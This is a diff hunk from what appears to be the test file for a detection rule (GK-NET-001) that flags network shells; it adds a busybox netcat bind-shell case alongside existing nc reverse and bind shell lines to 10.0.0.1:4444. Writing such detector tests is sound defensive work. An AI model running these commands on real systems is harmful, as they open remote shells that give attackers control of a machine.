@@ -25,6 +25,8 @@ timeout 60 nc -lp 4444 -e sh
 env -i nc -e /bin/sh 10.0.0.1 4444
 # ruleid: GK-NET-001
 echo $(nc -e /bin/sh 10.0.0.1 4444)
+# ruleid: GK-NET-001
+busybox nc -lp 4444 -e sh
 
 # -- socat with an address that runs a program --
 # ruleid: GK-NET-001
